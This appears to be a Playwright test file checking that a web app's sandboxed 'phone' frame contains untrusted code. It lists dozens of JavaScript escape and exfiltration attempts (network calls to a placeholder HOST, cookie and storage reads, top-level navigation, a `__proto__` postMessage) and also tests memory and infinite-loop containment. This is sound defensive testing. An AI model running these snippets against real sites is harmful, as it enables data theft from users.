import { createServer } from 'node:http'
import { firstSettings, type Order } from '~/live/messages'
import { expect, test } from './site'
import { allow, log, openPhone, pathname } from './steps/live-phone'
import { startServer } from './steps/start-server'

// What a page complains of late would be the next test's.
test.use({ reuseContext: false })

/**
 * Code that a reader may have been talked into; HOST stands for a server that listens, `add` adds an
 * element with properties, and `tell` says that something was reached.
 */
const attacks: Record<string, string> = {
  'asks the network': `fetch('HOST/fetch')`,
  'asks the network in an old way': `const r = new XMLHttpRequest(); r.open('GET', 'HOST/xhr'); r.send()`,
  'opens a socket': `new WebSocket('HOST/socket')`,
  'opens a stream': `new EventSource('HOST/events'); new WebTransport('HOST/transport'.replace('http', 'https'))`,
  'sends a beacon': `navigator.sendBeacon('HOST/beacon', 'x')`,
  'talks to a peer': `const c = new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + 'HOST'.slice(7) + '?transport=tcp', username: 'x', credential: 'x' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); tell('a peer')`,
  'talks to a peer by its old name': `new webkitRTCPeerConnection(); tell('a peer')`,
  'talks to a peer from another frame': `new (add('iframe').contentWindow.RTCPeerConnection)(); tell('a peer')`,
  'imports a module': `import('HOST/module.js')`,
  'imports a module of its own': `import(URL.createObjectURL(new Blob(['fetch("HOST/blob")'], { type: 'text/javascript' }))).then(() => tell('a module'))`,
  'imports a module of data': `import('data:text/javascript,fetch("HOST/data")').then(() => tell('a module'))`,
  'starts a worker': `new Worker('HOST/worker')`,
  'starts a worker of its own': `new Worker(URL.createObjectURL(new Blob(['postMessage(0); importScripts("HOST/imported")']))).onmessage = () => tell('a worker')`,
  'starts a worker of data': `new Worker('data:text/javascript,postMessage(0); fetch("HOST/data")').onmessage = () => tell('a worker')`,
  'starts a shared worker': `new SharedWorker('data:text/javascript,onconnect = ({ ports: [port] }) => port.postMessage(0)').port.onmessage = () => tell('a worker')`,
  'starts a worklet': `CSS.paintWorklet.addModule('HOST/paint')`,
  'starts a worker of the site': `navigator.serviceWorker.register('/sw.js').then(() => tell('a worker'))`,
  'loads an image': `new Image().src = 'HOST/image'`,
  'loads a film': `add('video', { src: 'HOST/film' })`,
  'loads a script': `add('script', { src: 'HOST/script' })`,
  'loads a plugin': `add('object', { data: 'HOST/object' }); add('embed', { src: 'HOST/embed' })`,
  'loads styles': `add('link', { rel: 'stylesheet', href: 'HOST/styles' })`,
  'loads what styles name': `add('style', { textContent: '@import url(HOST/import); @font-face { font-family: x; src: url(HOST/font) } body { font-family: x; background: url(HOST/background); cursor: url(HOST/cursor), auto }' })`,
  'loads what later styles name': `const s = new CSSStyleSheet(); s.replaceSync('body { border-image: url(HOST/border) }'); document.adoptedStyleSheets = [s]`,
  'loads ahead': `for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'preconnect', 'dns-prefetch', 'manifest', 'icon']) add('link', { rel, as: 'image', href: 'HOST/' + rel })`,
  'has the browser load ahead': `add('script', { type: 'speculationrules', textContent: '{ "prefetch": [{ "urls": ["HOST/rules"] }] }' })`,
  'opens a frame': `add('iframe', { src: 'HOST/frame' })`,
  'opens a frame with a document': `add('iframe', { srcdoc: '<img src=HOST/document>' })`,
  'leaves the page': `top.location = 'HOST/top'`,
  'leaves the page by a link': `add('a', { href: 'HOST/link', target: '_top' }).click()`,
  'tells of a link': `add('a', { href: '#', ping: 'HOST/ping' }).click()`,
  'opens a window': `if (open('HOST/window')) tell('a window')`,
  'opens an empty window': `if (open('about:blank')) tell('a window')`,
  'opens a window by a link': `add('a', { href: 'HOST/blank', target: '_blank' }).click()`,
  'saves a file': `add('a', { href: 'data:text/plain,x', download: 'x.txt' }).click(); add('a', { href: URL.createObjectURL(new Blob(['x'])), download: 'x.txt' }).click()`,
  'sends a form': `add('form', { action: 'HOST/form' }).submit()`,
  'reads the page': `tell(parent.document.title)`,
  'reads what is stored': `tell('what is stored: ' + localStorage.length)`,
  'reads cookies': `tell('cookies: ' + document.cookie)`,
  'asks for a database': `indexedDB.open('x').onsuccess = () => tell('a database')`,
  'asks for caches': `caches.open('x').then(() => tell('a cache'))`,
  'asks for files': `navigator.storage.getDirectory().then(() => tell('files'))`,
  'asks for a camera': `navigator.mediaDevices.getUserMedia({ video: true }).then(() => tell('a camera'))`,
  'sends what is no report': `for (const data of [null, 1, { type: 'set', name: '__proto__' }, { type: 'log', detail: {} }]) parent.postMessage(data, '*')`,
}

/** Each ends the document that it runs in, if it can. */
const departures: Record<string, string> = {
  'leaves its frame': `location = 'HOST/self'`,
  'has its frame leave': `add('meta', { httpEquiv: 'refresh', content: '0;url=HOST/refresh' })`,
}

const helpers = `
const tell = (what) => parent.postMessage({ type: 'log', kind: 'call', name: 'reached', detail: what }, '*')
const add = (name, properties) => {
  const element = Object.assign(document.createElement(name), properties)
  document.body.append(element)
  return element
}
`

test('code of others reaches nothing of the page, its site or the network', async ({
  page,
  complaints,
}) => {
  const asked: string[] = []
  const server = createServer(({ url = '' }, response) => {
    asked.push(url)
    response.end()
  })
  // Not all that asks speaks HTTP.
  server.on('connection', () => asked.push('connection'))
  const { origin, close } = await startServer(server)
  page.on('popup', (popup) => asked.push(popup.url()))
  page.on('download', (download) => asked.push(download.url()))
  const run = async (attempts: string[]): Promise<void> => {
    // Each is tried at once, and later, when the code that started it is over.
    const tries = attempts.map((each) => `try { ${each} } catch {}; setTimeout(() => { ${each} });`)
    const end = `setTimeout(() => console.log('${attempts.length} tried'), 500)`
    const code = `${helpers}${tries.join('\n')}\n${end}; exports.Screen = () => 'It ran'`
    const body = code.replaceAll('HOST', origin)
    await page.unroute('**/live/scanner.js')
    await page.route('**/live/scanner.js', (route) => route.fulfill({ body }))
    await openPhone(page, 'scanner')
  }
  const expectSound = async (): Promise<void> => {
    await expect(page).toHaveURL(new RegExp(`${pathname}\\?run=scanner`))
    expect(await log(page).textContent()).not.toContain('reached')
    expect(asked).toEqual([])
  }
  await run(Object.values(attacks))
  await expect(log(page)).toContainText(`${Object.keys(attacks).length} tried`)
  await expectSound()
  for (const departure of Object.values(departures)) {
    complaints.splice(0)
    await run([departure])
    // The page's own policy keeps its frames on the site.
    const refusal = /^Framing .*"default-src 'self'"/
    await expect.poll(() => complaints.some((text) => refusal.test(text))).toBe(true)
    await expectSound()
  }
  // The server is there to be asked.
  await fetch(`${origin}/test`)
  expect(asked).toEqual(['connection', '/test'])
  close()
  complaints.splice(0)
})

test('the document of the phone runs nothing where it has the origin of the site', async ({
  page,
}) => {
  await page.goto('/live/phone.htm')
  const order: Order = {
    type: 'run',
    code: 'document.title = "It ran"; exports.Screen = () => null',
    helpers: {},
    settings: firstSettings,
  }
  await page.evaluate((data) => {
    window.postMessage(data, '*')
    // Its next sign of life comes after it has read the order.
    return new Promise<void>((resolve) => {
      window.addEventListener('message', ({ data: { type } }) => type === 'alive' && resolve())
    })
  }, order)
  await expect(page).toHaveTitle('Simulated phone')
})

test('a gigabyte of memory leaves the page and the next run as they were', async ({ page }) => {
  const take = 'globalThis.kept = Array.from({ length: 16 }, () => new Uint8Array(2 ** 26).fill(1))'
  const body = `${take}; console.log(kept.length * 64 + ' MB'); exports.Screen = () => null`
  await page.route('**/live/scanner.js', (route) => route.fulfill({ body }))
  await openPhone(page, 'scanner')
  // Where a machine has no room for it, the browser ends the frame, and the page says so.
  await expect(log(page).getByText('1024 MB').or(page.getByText('so it was ended'))).toBeVisible()
  await page.unroute('**/live/scanner.js')
  await page.reload()
  await allow(page.frameLocator('iframe'))
  await expect(log(page)).toContainText('onStarted')
})

test('an endless loop is ended, and the phone can be started again', async ({ page }) => {
  await page.route('**/live/scanner.js', (route) =>
    route.fulfill({ body: 'setTimeout(() => { for (;;); }); exports.Screen = () => null' }),
  )
  await openPhone(page, 'scanner')
  await expect(page.getByText('so it was ended')).toBeVisible()
  await page.unroute('**/live/scanner.js')
  await page.reload()
  await allow(page.frameLocator('iframe'))
  await expect(log(page)).toContainText('onStarted')
})
